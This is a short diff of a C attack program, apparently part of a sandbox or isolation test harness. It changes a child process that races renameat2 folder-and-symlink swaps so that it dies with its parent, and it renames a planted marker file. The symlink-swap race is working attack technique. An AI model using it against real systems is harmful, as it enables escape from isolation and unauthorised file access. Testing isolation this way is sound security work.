@@ -2,7 +2,7 @@
 #include "attack.h"
 
 #include <dirent.h>
-#include <sys/syscall.h>
+#include <sys/prctl.h>
 
 #ifndef RENAME_EXCHANGE
 #define RENAME_EXCHANGE 2
@@ -100,7 +100,7 @@ static int read_in_a_race(void)
     if (swapper < 0)
         return errno;
     if (swapper == 0)
-        for (;;)
+        for (prctl(PR_SET_PDEATHSIG, SIGKILL);;)
             syscall(SYS_renameat2, AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE);
     result = ENOENT;
     for (int i = 0; i < RACES && result; i++) {
@@ -198,7 +198,7 @@ static int write_neighbours_file(void)
 
 static int write_own_record(void)
 {
-    return write_file(text("%s/exit.json", param("state")), O_WRONLY | O_CREAT, "{}");
+    return write_file(text("%s/planted", param("state")), O_WRONLY | O_CREAT, "{}");
 }
 
 static int move_own_root(void)
